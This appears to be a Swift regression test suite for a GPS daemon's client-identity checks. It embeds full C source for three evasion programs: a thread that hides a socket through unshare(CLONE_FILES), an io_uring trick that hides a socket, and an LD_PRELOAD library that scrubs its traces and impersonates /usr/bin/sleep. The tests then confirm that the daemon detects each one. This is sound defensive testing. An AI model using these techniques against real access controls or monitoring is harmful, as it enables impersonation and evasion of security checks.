#if canImport(Glibc)
import Glibc
#endif
import FoundationEssentials
import Testing

/// Issue 32's attack on the finished build (a helper attacking as uid 1 who did not write the fix): holders the
/// first pass over /proc could not see — a thread with a descriptor table of its own, an io_uring's registered
/// files — and a preloaded library that hid every trace the clean-load check read. Each gave full accuracy as
/// `/usr/bin/sleep` on every front; each is run here as it was written, against the real daemon.
@Suite("Identity: holders hidden from /proc, a load that hides itself", .serialized,
       .enabled(if: getuid() == 0, "needs root to run clients as other users"))
struct HiddenHolderTests {
    typealias E2E = PolicyEndToEndTests

    /// Builds `source` (C) as uid 1's program or library in `directory`; the path.
    static func build(_ source: String, _ name: String, in directory: String, flags: [String] = []) throws -> String {
        let path = directory + "/" + name
        FileManager.default.createFile(atPath: path + ".c", contents: Data(source.utf8))
        let built = try E2E.run(["cc", "-o", path] + flags + [path + ".c"], in: directory)
        try #require(built.status == 0, "\(built.stderr)")
        chown(path, 1, 1)
        return path
    }

    /// Runs the attack `arguments` as uid 1 against a daemon trusting /usr/bin/sleep; what it read.
    static func attack(_ make: (String, UInt16, String) throws -> [String]) throws -> (out: String, log: String) {
        let (daemon, port, directory) = try IdentityBorrowingTests.daemon()
        defer { daemon.stop() }
        let arguments = try make(directory, port, daemon.socketPath)
        // Bounded: a denied client's read waits for bytes that never come.
        let run = try E2E.run(["timeout", "10", "setpriv", "--reuid=1", "--regid=1", "--clear-groups"] + arguments, in: directory)
        return (run.stdout + run.stderr, daemon.log)
    }

    @Test("a thread with a descriptor table of its own (unshare(CLONE_FILES)) is a holder too")
    func hiddenThread() throws {
        let (out, log) = try Self.attack { directory, port, _ in
            [try Self.build(Self.hiddenThread, "hidethread", in: directory, flags: ["-lpthread"]), "tcp4", "4", String(port)]
        }
        #expect(!out.contains(#""lat""#) && !out.contains("$GPGGA,0"), "read as /usr/bin/sleep: \(out.prefix(600))")
        #expect(log.contains("held by processes of different programs"), "\(log.suffix(1500))")
    }

    @Test("a socket registered with an io_uring and closed is held by the ring's process")
    func ringHeld() throws {
        let (out, log) = try Self.attack { directory, port, _ in
            [try Self.build(Self.ringHidden, "uringhide", in: directory), "tcp4", "4", String(port)]
        }
        #expect(!out.contains(#""lat""#), "read as /usr/bin/sleep: \(out.prefix(600))")
        #expect(log.contains("held by processes of different programs"), "\(log.suffix(1500))")
    }

    @Test("a preloaded library that blanks its variable, moves to anonymous memory and unmaps its file is seen",
          arguments: ["native", "tcp4"])
    func scrubbedPreload(mode: String) throws {
        let (out, log) = try Self.attack { directory, port, socket in
            let library = try Self.build(Self.scrub, "scrub.so", in: directory, flags: ["-O2", "-fPIC", "-shared", "-Wl,-z,now"])
            return ["env", "LD_PRELOAD=\(library)", "SCRUB_MODE=\(mode)", "SCRUB_SECS=4", "SCRUB_PORT=\(port)",
                    "SCRUB_SOCKET=\(socket)", "/usr/bin/sleep", "5"]
        }
        #expect(!out.contains(#""lat""#), "read as /usr/bin/sleep: \(out.prefix(600))")
        #expect(log.contains("it runs code from anonymous memory"), "\(log.suffix(1500))")
    }

    /// helper-attacked `hidethread.c`: usage `hidethread tcp4|tcp6 SECONDS PORT`.
    static let hiddenThread = #"""
// Hidden holder: a non-leader thread with its own descriptor table (unshare(CLONE_FILES)) holds and uses
// the client socket; the only holder visible through /proc/PID/fd (readdir of /proc lists thread-group
// leaders only) is a child running /usr/bin/sleep.
// usage: hidethread tcp4|tcp6|nmea SECONDS
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int s; static const char *mode; static int secs; static int port;
static volatile int unshared = 0, closed = 0; static pid_t child;
#include <signal.h>
static void done(int c){ if(child>0) kill(child,SIGKILL); exit(c);}

static void *thr(void *a) {
    (void)a;
    if (unshare(CLONE_FILES) != 0) { perror("unshare"); exit(1); }
    unshared = 1;
    while (!closed) usleep(1000);
    usleep(100000);
    int r;
    if (!strcmp(mode, "tcp4")) {
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
        inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
        r = connect(s, (void *)&sa, sizeof sa);
    } else if (!strcmp(mode, "tcp6")) {
        struct sockaddr_in6 sa = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
        inet_pton(AF_INET6, "::1", &sa.sin6_addr);
        r = connect(s, (void *)&sa, sizeof sa);
    } else {
        struct sockaddr_un sa = {.sun_family = AF_UNIX};
        strcpy(sa.sun_path, "/tmp/atk32/run/nmea.sock");
        r = connect(s, (void *)&sa, sizeof sa);
    }
    if (r) { perror("connect"); exit(1); }
    if (mode[0] == 't') {
        usleep(300000);
        const char *w = "?WATCH={\"enable\":true,\"json\":true,\"nmea\":true}\n";
        write(s, w, strlen(w));
    }
    char buf[65536];
    time_t end = time(NULL) + secs;
    while (time(NULL) < end) {
        ssize_t n = read(s, buf, sizeof buf);
        if (n <= 0) { fprintf(stderr, "[thread] read returned %zd at +%lds\n", n, (long)(secs - (end - time(NULL)))); break; }
        fwrite(buf, 1, n, stdout); fflush(stdout);
    }
    done(0); return 0;
}

int main(int argc, char **argv) {
    mode = argv[1]; secs = atoi(argv[2]); port = atoi(argv[3]);
    s = socket(!strcmp(mode, "tcp4") ? AF_INET : !strcmp(mode, "tcp6") ? AF_INET6 : AF_UNIX, SOCK_STREAM, 0);
    pthread_t t; pthread_create(&t, NULL, thr, NULL);
    while (!unshared) usleep(1000);
    pid_t c = fork(); child = c;
    if (c == 0) {
        // keep only s (and stdio) in the sleep process
        char *env[] = {"PATH=/usr/bin:/bin", NULL};
        execle("/usr/bin/sleep", "sleep", "1000", (char *)NULL, env);
        _exit(127);
    }
    close(s);            // the leader's table no longer holds it; the thread's private copy does
    closed = 1;
    pthread_join(t, NULL);
    return 0;
}
"""#

    /// helper-attacked `uringhide.c`: usage `uringhide tcp4 SECONDS PORT`.
    static let ringHidden = #"""
// Hidden holder without threads: the client socket lives only in an io_uring's registered-file table
// (IORING_REGISTER_FILES, then close(2)): /proc/PID/fd shows anon_inode:[io_uring], not socket:[INODE].
// The only visible holder is a child running /usr/bin/sleep. Connect, write and read go through the ring.
// usage: uringhide tcp4|nmea SECONDS
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int ring; static struct io_uring_params p;
static unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
static struct io_uring_sqe *sqes; static struct io_uring_cqe *cqes;

static int submit(struct io_uring_sqe *in) {
    unsigned t = *sq_tail, i = t & *sq_mask;
    sqes[i] = *in; sq_array[i] = i;
    __atomic_store_n(sq_tail, t + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) { perror("enter"); exit(1); }
    unsigned h = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
    while (h == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE)) ;
    int res = cqes[h & *cq_mask].res;
    __atomic_store_n(cq_head, h + 1, __ATOMIC_RELEASE);
    return res;
}

int main(int argc, char **argv) {
    const char *mode = argv[1]; int secs = atoi(argv[2]); int port = atoi(argv[3]);
    ring = syscall(__NR_io_uring_setup, 8, &p);
    if (ring < 0) { perror("io_uring_setup"); return 1; }
    char *sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
    sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    sq_tail = (void *)(sq + p.sq_off.tail); sq_mask = (void *)(sq + p.sq_off.ring_mask); sq_array = (void *)(sq + p.sq_off.array);
    cq_head = (void *)(cq + p.cq_off.head); cq_tail = (void *)(cq + p.cq_off.tail); cq_mask = (void *)(cq + p.cq_off.ring_mask);
    cqes = (void *)(cq + p.cq_off.cqes);

    int tcp = !strcmp(mode, "tcp4");
    int s = socket(tcp ? AF_INET : AF_UNIX, SOCK_STREAM, 0);
    if (syscall(__NR_io_uring_register, ring, IORING_REGISTER_FILES, &s, 1) < 0) { perror("register"); return 1; }
    pid_t c = fork();
    if (c == 0) { close(ring); char *env[] = {"PATH=/usr/bin:/bin", NULL}; execle("/usr/bin/sleep", "sleep", "1000", (char *)NULL, env); _exit(127); }
    close(s);
    usleep(100000);
    struct sockaddr_in sa4 = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, "127.0.0.1", &sa4.sin_addr);
    struct sockaddr_un sau = {.sun_family = AF_UNIX, .sun_path = "/tmp/atk32/run/nmea.sock"};
    struct io_uring_sqe e = {0};
    e.opcode = IORING_OP_CONNECT; e.flags = IOSQE_FIXED_FILE; e.fd = 0;
    e.addr = tcp ? (unsigned long)&sa4 : (unsigned long)&sau; e.off = tcp ? sizeof sa4 : sizeof sau;
    int r = submit(&e);
    if (r < 0) { fprintf(stderr, "connect: %s\n", strerror(-r)); kill(c, SIGKILL); return 1; }
    char buf[65536];
    if (tcp) {
        usleep(300000);
        const char *w = "?WATCH={\"enable\":true,\"json\":true,\"nmea\":true}\n";
        memset(&e, 0, sizeof e); e.opcode = IORING_OP_SEND; e.flags = IOSQE_FIXED_FILE; e.fd = 0; e.addr = (unsigned long)w; e.len = strlen(w);
        submit(&e);
    }
    time_t end = time(NULL) + secs;
    while (time(NULL) < end) {
        memset(&e, 0, sizeof e); e.opcode = IORING_OP_RECV; e.flags = IOSQE_FIXED_FILE; e.fd = 0; e.addr = (unsigned long)buf; e.len = sizeof buf;
        int n = submit(&e);
        if (n <= 0) { fprintf(stderr, "recv %d\n", n); break; }
        fwrite(buf, 1, n, stdout); fflush(stdout);
    }
    kill(c, SIGKILL);
    return 0;
}
"""#

    /// helper-attacked `scrub.c`, a library: SCRUB_MODE, SCRUB_SECS, SCRUB_PORT, SCRUB_SOCKET.
    static let scrub = #"""
// LD_PRELOAD library that leaves no trace the clean-load check reads: its constructor renames LD_* in the
// process's own environment strings (what /proc/PID/environ shows), copies its whole image into an
// anonymous RWX mapping (maps lines with inode 0 are ignored), jumps there, unmaps the file's mappings and
// runs a client as the host program (here /usr/bin/sleep): same pid, same exe, no tracer.
// Build: cc -O2 -fPIC -shared -Wl,-z,now -o scrub.so scrub.c
// Env: SCRUB_MODE=native|nmea|tcp4  SCRUB_SECS=N (renamed too, harmless names anyway)
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <link.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>
extern char **environ;
static char mode[16] = "native"; static int secs = 10;
static uintptr_t lo = UINTPTR_MAX, hi = 0;

__attribute__((noinline)) static void payload(uintptr_t olo, uintptr_t ohi) {
    munmap((void *)olo, ohi - olo);
    int tcp = !strcmp(mode, "tcp4");
    int s = socket(tcp ? AF_INET : AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un su = {.sun_family = AF_UNIX};
    struct sockaddr_in s4 = {.sin_family = AF_INET, .sin_port = htons(atoi(getenv("SCRUB_PORT"))), .sin_addr.s_addr = htonl(0x7f000001)};
    strcpy(su.sun_path, getenv("SCRUB_SOCKET"));
    if ((tcp ? connect(s, (void *)&s4, sizeof s4) : connect(s, (void *)&su, sizeof su)) != 0) { perror("connect"); _exit(1); }
    usleep(300000);
    const char *req = !strcmp(mode, "native") ? "{\"class\":\"WATCH\",\"enable\":true,\"satellites\":true}\n"
                    : tcp ? "?WATCH={\"enable\":true,\"json\":true,\"nmea\":true}\n" : NULL;
    if (req) write(s, req, strlen(req));
    char buf[65536]; time_t end = time(NULL) + secs;
    while (time(NULL) < end) {
        ssize_t n = read(s, buf, sizeof buf);
        if (n <= 0) { fprintf(stderr, "[scrub] read %zd\n", n); break; }
        write(1, buf, n);
    }
    _exit(0);
}

static int range(struct dl_phdr_info *info, size_t size, void *data) {
    (void)size; (void)data;
    if (!info->dlpi_name || !strstr(info->dlpi_name, "scrub.so")) return 0;
    for (int i = 0; i < info->dlpi_phnum; i++) if (info->dlpi_phdr[i].p_type == PT_LOAD) {
        uintptr_t a = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr, b = a + info->dlpi_phdr[i].p_memsz;
        a &= ~0xfffUL; b = (b + 0xfff) & ~0xfffUL;
        if (a < lo) lo = a; if (b > hi) hi = b;
    }
    return 1;
}

__attribute__((constructor)) static void init(void) {
    const char *m = getenv("SCRUB_MODE"), *t = getenv("SCRUB_SECS");
    if (m) strncpy(mode, m, sizeof mode - 1);
    if (t) secs = atoi(t);
    for (char **e = environ; *e; e++) if (!strncmp(*e, "LD_", 3)) (*e)[0] = 'X';
    dl_iterate_phdr(range, NULL);
    char *copy = mmap(NULL, hi - lo, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(copy, (void *)lo, hi - lo);
    void (*jump)(uintptr_t, uintptr_t) = (void *)((uintptr_t)payload - lo + (uintptr_t)copy);
    // mode/secs live in the copy's data too (copied after being set)
    jump(lo, hi);
}
"""#
}
